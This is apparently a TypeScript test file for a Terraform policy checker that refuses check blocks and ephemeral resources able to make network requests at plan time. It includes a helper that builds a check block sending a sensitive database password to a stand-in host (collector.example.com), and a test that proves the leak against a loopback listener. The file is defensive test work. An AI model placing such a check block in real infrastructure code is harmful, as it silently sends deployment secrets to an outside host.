import { execFile } from 'child_process';
import * as fs from 'fs';
import * as http from 'http';
import * as os from 'os';
import * as path from 'path';
import { promisify } from 'util';
import { SecretVariable } from '../../lib';
import { listenOnFreePort } from '../../testing/harness/ports';
import { terraformBinary } from '../../testing/harness/terraform-cli';
import { describeWithRealParts, hasTerraform } from '../setup/real-parts';
import { checkedStack, machine, synthErrors } from './fixtures';

// Audit (unread blocks): Boundary-UncheckedSender read the top-level data sources, but a check block's own data
// sources run at every plan too (Terraform's example of a check block is a `data "http"` probe), and an ephemeral
// resource is opened through its provider at every plan and apply. Written with an override (from TypeScript or
// JavaScript alike), both passed synth: the check below sends a sensitive variable to any host from the machine
// that deploys, as the plan at the end of this file shows against a loopback listener.

/** A check block whose own data source reads state over HTTP from `address`. */
function exfiltratingCheck(address: string): Record<string, unknown> {
  return {
    data: { terraform_remote_state: { probe: { backend: 'http', config: { address } } } },
    assert: [{ condition: '${data.terraform_remote_state.probe.outputs != null}', error_message: 'the probe failed' }],
  };
}

describe('what a check block or an ephemeral resource sends is read like a data source', () => {
  test('a check block with its own http or remote-state data source is refused, naming the block and the fix', () => {
    const stack = checkedStack();
    machine(stack);
    const password = new SecretVariable(stack, 'db_password', { description: 'Password of the app role' });
    stack.addOverride('check.uptime', { data: { http: { home: { url: 'https://status.example.com/ping' } } }, assert: [{ condition: '${data.http.home.status_code == 200}', error_message: 'down' }] });
    stack.addOverride('check.exfil', exfiltratingCheck(`https://collector.example.com/state?p=${password.stringValue}`));
    const errors = synthErrors(stack);
    expect(errors).toMatch(/Boundary-UncheckedSender: check\.uptime\.data\.http\.home\.type: 'data http' is not allowed: it makes a request of its own from the machine that deploys at every plan.*Fix: fetch it on a machine whose egress the allowlist limits/);
    expect(errors).toMatch(/Boundary-UncheckedSender: check\.exfil\.data\.terraform_remote_state\.probe\.backend: 'http' is not allowed/);
  });

  test('an ephemeral resource of another provider is refused; a local one (random) passes', () => {
    const stack = checkedStack();
    machine(stack);
    stack.addOverride('ephemeral.aws_lambda_invocation.collect', { function_name: 'collect', input: '{"rows":1}' });
    stack.addOverride('ephemeral.random_password.session', { length: 32 });
    const errors = synthErrors(stack);
    expect(errors).toMatch(/Boundary-UncheckedSender: ephemeral\.aws_lambda_invocation\.collect\.type: 'ephemeral aws_lambda_invocation' is not allowed: Terraform opens it through the aws provider from the machine that deploys/);
    expect(errors).not.toMatch(/random_password/);
  });
});


describeWithRealParts(hasTerraform(), 'check-block-sender', 'terraform on PATH, to plan the refused check block')('the refused check block, planned by Terraform', () => {
  test('sends the sensitive variable to the address at plan time', async () => {
    const requests: string[] = [];
    const server = http.createServer((req, res) => {
      requests.push(req.url ?? '');
      res.writeHead(404).end();
    });
    const port = await listenOnFreePort(server);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'check-block-sender-'));
    try {
      fs.writeFileSync(path.join(dir, 'main.tf.json'), JSON.stringify({
        variable: { db_password: { type: 'string', sensitive: true } },
        check: { exfil: exfiltratingCheck(`http://127.0.0.1:${port}/state?p=\${var.db_password}`) },
      }));
      // The builtin terraform provider and the http backend need no download; an empty CLI config reads no other.
      const env = { ...process.env, TF_CLI_CONFIG_FILE: '/dev/null', TF_IN_AUTOMATION: '1', TF_VAR_db_password: 'orders-db-pass-9f3' };
      const run = promisify(execFile);
      await run(terraformBinary(), ['init', '-input=false', '-no-color'], { cwd: dir, env });
      await run(terraformBinary(), ['plan', '-input=false', '-no-color'], { cwd: dir, env });
      expect(requests).toContain('/state?p=orders-db-pass-9f3');
    } finally {
      server.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});
